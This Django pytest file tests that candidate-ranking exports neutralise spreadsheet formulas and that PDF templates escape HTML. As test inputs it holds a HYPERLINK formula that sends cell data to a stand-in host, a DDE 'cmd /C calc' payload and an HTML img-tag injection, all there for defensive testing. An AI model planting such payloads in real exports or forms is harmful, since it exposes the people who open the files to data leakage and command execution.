"""Exports (CSV, XLSX) never carry a live formula; numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.template.loader import render_to_string
from django.urls import reverse
from openpyxl import load_workbook

from classificacao.listas import recalcular
from comum import exportacao
from tests.factories import CandidatoFactory, CargoFactory, CertameFactory, InscricaoFactory

FORMULA = '=HYPERLINK("http://x/?"&C2,"Ver")'


# --- the neutraliser ---------------------------------------------------------------------------


@pytest.mark.parametrize("primeiro", ["=", "+", "-", "@", "\t", "\r"])
def test_texto_que_a_planilha_executaria_recebe_apostrofo(primeiro):
    texto = primeiro + "1+1"
    assert exportacao.neutralizar(texto) == "'" + texto
    assert exportacao.celula_csv(texto) == "'" + texto


@pytest.mark.parametrize("texto", ["Maria", "'=já neutralizado", " =com espaço", "#N/A", "",
                                   "***.456.789-**"])
def test_texto_comum_fica_como_esta(texto):
    assert exportacao.neutralizar(texto) == texto


def test_numeros_e_datas_no_csv():
    assert [exportacao.celula_csv(v) for v in (
        -5, Decimal("-1.50"), Decimal("90.0000"), 2.5, None, True, False,
        dt.date(2026, 3, 1))] == ["-5", "-1,50", "90,0000", "2,5", "", "sim", "não", "01/03/2026"]


def _ler_xlsx(conteudo: bytes):
    return load_workbook(io.BytesIO(conteudo)).worksheets[0]


def test_xlsx_texto_e_string_numero_e_numero():
    conteudo = exportacao.gerar_xlsx(
        ["texto", "negativo", "decimal", "erro", "controle", "booleano", "data"],
        [[FORMULA, -5, Decimal("-1.25"), "#N/A", "a\x1bb", True, dt.date(2026, 3, 1)]],
        titulo="Classificação")
    folha = _ler_xlsx(conteudo)
    assert folha.title == "Classificação"
    texto, negativo, decimal, erro, controle, booleano, data = folha[2]
    assert (texto.value, texto.data_type) == ("'" + FORMULA, "s")
    assert (negativo.value, negativo.data_type) == (-5, "n")
    assert (decimal.value, decimal.data_type) == (-1.25, "n")
    assert (erro.value, erro.data_type) == ("#N/A", "s")
    assert (controle.value, controle.data_type) == ("ab", "s")
    assert (booleano.value, booleano.data_type) == ("sim", "s")
    assert data.value == dt.datetime(2026, 3, 1)
    assert [c.value for c in folha[1]] == ["texto", "negativo", "decimal", "erro", "controle",
                                           "booleano", "data"]


def test_csv_com_bom_e_ponto_e_virgula():
    conteudo = exportacao.gerar_csv(["nome", "nota"], [[FORMULA, Decimal("-3.5")]])
    assert conteudo.startswith("\ufeff".encode())
    linhas = list(csv.reader(io.StringIO(conteudo.decode("utf-8-sig")), delimiter=";"))
    assert linhas == [["nome", "nota"], ["'" + FORMULA, "-3,5"]]


# --- the cargo's export ------------------------------------------------------------------------


@pytest.fixture
def versao(db):
    cargo = CargoFactory(vagas=2, certame=CertameFactory(regime="pirangi-lei3056-2025"),
                         codigo="ENF")
    social = CandidatoFactory(nome="Nome Civil", nome_social=FORMULA)
    civil = CandidatoFactory(nome="@SUM(1+1)*cmd|' /C calc'!A0")
    InscricaoFactory(cargo=cargo, numero="000001", nota=Decimal("90"), candidato=social)
    InscricaoFactory(cargo=cargo, numero="-000002", nota=Decimal("80"), candidato=civil)
    return recalcular(cargo.pk)


def test_exportacao_csv_do_cargo_neutraliza_nomes(client, rh, versao):
    client.force_login(rh)
    resposta = client.get(reverse("painel:exportar", args=[versao.pk, "csv"]))
    assert resposta["Content-Disposition"] == 'attachment; filename="classificacao-ENF-v1.csv"'
    linhas = list(csv.reader(io.StringIO(resposta.content.decode("utf-8-sig")), delimiter=";"))
    ac = [linha for linha in linhas if linha[0] == "AC"]
    assert [(linha[2], linha[3], linha[5]) for linha in ac] == [
        ("000001", "'" + FORMULA, "90,0000"),
        ("'-000002", "'@SUM(1+1)*cmd|' /C calc'!A0", "80,0000")]


def test_exportacao_xlsx_do_cargo_grava_texto_como_string(client, rh, versao):
    client.force_login(rh)
    resposta = client.get(reverse("painel:exportar", args=[versao.pk, "xlsx"]))
    assert resposta["Content-Type"] == exportacao.TIPO_XLSX
    folha = _ler_xlsx(resposta.content)
    linhas = list(folha.iter_rows(min_row=2))
    ac = [linha for linha in linhas if linha[0].value == "AC"]
    posicao, numero, nome, nota = ac[0][1], ac[0][2], ac[0][3], ac[0][5]
    assert (nome.value, nome.data_type) == ("'" + FORMULA, "s")
    assert (numero.value, numero.data_type) == ("000001", "s")
    assert (posicao.value, posicao.data_type) == (1, "n")
    assert (nota.value, nota.data_type) == (90, "n")
    assert (ac[1][2].value, ac[1][3].value) == ("'-000002", "'@SUM(1+1)*cmd|' /C calc'!A0")
    assert all(c.data_type != "f" for linha in linhas for c in linha)


def test_formato_desconhecido_e_404(client, rh, versao):
    client.force_login(rh)
    assert client.get(reverse("painel:exportar", args=[versao.pk, "ods"])).status_code == 404


# --- the PDFs (weasyprint renders Django templates) --------------------------------------------


@pytest.mark.django_db
def test_comprovante_em_pdf_escapa_o_nome():
    from candidatos.comprovante import dados_comprovante

    candidato = CandidatoFactory(nome_social='<img src="http://x/">' + FORMULA)
    insc = InscricaoFactory(candidato=candidato)
    html = render_to_string("candidatos/comprovante.html", {
        "dados": dados_comprovante(insc), "hash": "0" * 64, "emitido_em": dt.datetime.now()})
    assert "&lt;img src=&quot;http://x/&quot;&gt;" in html
    assert '<img src="http://x/">' not in html


def test_nenhum_template_html_desliga_o_escape():
    """Every PDF (comprovante, ata) and page is a Django template with autoescape on: none
    marks data safe or switches escaping off (plain-text e-mail templates aside)."""
    raiz = Path(settings.BASE_DIR) / "templates"
    culpados = [
        str(caminho.relative_to(raiz)) for caminho in raiz.rglob("*.html")
        if "_email" not in caminho.name
        and ("|safe" in (texto := caminho.read_text()) or "autoescape off" in texto)]
    assert culpados == []
